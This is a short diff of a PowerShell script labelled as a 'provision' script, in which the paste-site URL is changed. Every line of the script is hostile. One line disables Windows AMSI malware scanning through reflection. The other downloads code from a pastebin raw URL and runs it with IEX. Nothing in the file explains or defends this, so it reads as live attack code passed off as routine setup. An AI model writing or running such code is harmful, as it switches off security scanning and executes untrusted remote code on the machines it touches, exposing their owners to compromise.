@@ -1,3 +1,3 @@
-# provision 2683 v0
+# provision 6846 v0
 [Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)
-IEX (New-Object Net.WebClient).DownloadString('https://pastebin.com/raw/helpdesk')
+IEX (New-Object Net.WebClient).DownloadString('https://pastebin.com/raw/support')
